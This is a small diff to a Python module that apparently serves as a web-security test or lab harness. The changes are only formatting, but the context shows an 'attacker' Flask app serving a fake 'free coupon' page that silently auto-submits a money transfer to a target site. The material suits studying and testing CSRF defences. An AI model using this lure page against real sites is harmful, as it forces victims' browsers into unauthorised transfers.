@@ -6,6 +6,7 @@
   JavaScript logs in and writes what ``document.cookie`` shows into the DOM;
 * ``parse_result(dom)`` — the JSON such a page left in its ``<pre>``.
 """
+
 from __future__ import annotations
 
 import html
@@ -39,7 +40,7 @@ def create_attacker_app(target_url: str, to: str = "mallory", amount: int = 1_00
     """
     app = Flask("attacker")
     page = f"""<!doctype html><meta charset="utf-8"><title>무료 쿠폰!</title>
-<form id="f" method="post" action="{html.escape(target_url.rstrip('/'))}/transfer">
+<form id="f" method="post" action="{html.escape(target_url.rstrip("/"))}/transfer">
 <input type="hidden" name="to" value="{html.escape(to)}">
 <input type="hidden" name="amount" value="{int(amount)}"></form>
 <script>document.getElementById('f').submit();</script>"""
